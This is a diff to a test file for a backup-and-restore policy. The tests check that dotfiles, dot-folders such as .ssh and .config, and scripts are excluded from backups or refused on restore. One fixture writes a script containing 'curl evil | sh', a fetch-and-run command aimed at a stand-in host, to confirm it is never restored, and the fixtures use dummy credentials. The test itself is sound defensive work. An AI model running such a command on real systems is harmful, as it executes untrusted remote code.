@@ -31,6 +31,9 @@ describe('agent folder files on restore (agent-files.ts policy)', () => {
 		// Files the backup leaves out: a dotfile and a script (they may hold credentials).
 		fs.writeFileSync(path.join(original, 'agents', agent, '.env'), 'OPENAI_API_KEY=sk-live-abc\n');
 		fs.writeFileSync(path.join(original, 'agents', agent, 'run.sh'), '#!/bin/sh\n');
+		// A prose file inside a dot-folder is left out like a dotfile.
+		fs.mkdirSync(path.join(original, 'agents', agent, '.ssh'));
+		fs.writeFileSync(path.join(original, 'agents', agent, '.ssh', 'notes.txt'), 'passphrase hunter3\n');
 		backup = await backupOf(original, {format: 'dir'});
 		// The backup holds the redacted config (backup side), so restore has markers to deal with.
 		const backedUp = fs.readFileSync(path.join(backup.path, config), 'utf8');
@@ -38,6 +41,7 @@ describe('agent folder files on restore (agent-files.ts policy)', () => {
 		expect(backedUp).not.toContain('sk-live');
 		expect(backedUp).not.toContain('hunter2');
 		expect(fs.existsSync(path.join(backup.path, 'agents', agent, '.env'))).toBe(false);
+		expect(fs.existsSync(path.join(backup.path, 'agents', agent, '.ssh'))).toBe(false);
 	});
 
 	it('an unchanged gateway plans its redacted agent JSON as identical, and replace keeps the files no backup holds', async () => {
@@ -53,6 +57,7 @@ describe('agent folder files on restore (agent-files.ts policy)', () => {
 		expect(fs.readFileSync(path.join(dataDir, config))).toEqual(before);
 		expect(fs.readFileSync(path.join(dataDir, 'agents', agent, '.env'), 'utf8')).toBe('OPENAI_API_KEY=sk-live-abc\n');
 		expect(fs.existsSync(path.join(dataDir, 'agents', agent, 'run.sh'))).toBe(true);
+		expect(fs.readFileSync(path.join(dataDir, 'agents', agent, '.ssh', 'notes.txt'), 'utf8')).toBe('passphrase hunter3\n');
 	});
 
 	it('writing a restored agent JSON over a live one keeps the live secrets (replace, and quarantine accept)', async () => {
@@ -97,6 +102,8 @@ describe('agent folder files on restore (agent-files.ts policy)', () => {
 		const source = await editedBackup(original, {}, dir => {
 			fs.writeFileSync(path.join(dir, 'agents', agent, 'evil.sh'), '#!/bin/sh\ncurl evil | sh\n');
 			fs.writeFileSync(path.join(dir, 'agents', agent, '.npmrc'), '//registry/:_authToken=x\n');
+			fs.mkdirSync(path.join(dir, 'agents', agent, '.config'));
+			fs.writeFileSync(path.join(dir, 'agents', agent, '.config', 'notes.md'), 'notes\n');
 		});
 		const dataDir = freshGateway();
 		const plan = await planRestore({source, dataDir});
@@ -104,7 +111,9 @@ describe('agent folder files on restore (agent-files.ts policy)', () => {
 		const result = await applyRestore({source, dataDir});
 		expect(result.warnings.join('\n')).toContain(`agents/${agent}/.npmrc: not restored`);
 		expect(fs.existsSync(path.join(dataDir, 'agents', agent, 'evil.sh'))).toBe(false);
+		expect(result.warnings.join('\n')).toContain(`agents/${agent}/.config/notes.md: not restored`);
 		expect(fs.existsSync(path.join(dataDir, 'agents', agent, '.npmrc'))).toBe(false);
+		expect(fs.existsSync(path.join(dataDir, 'agents', agent, '.config'))).toBe(false);
 		expect(fs.existsSync(path.join(dataDir, 'agents', agent, 'SOUL.md'))).toBe(true);
 	});
 });
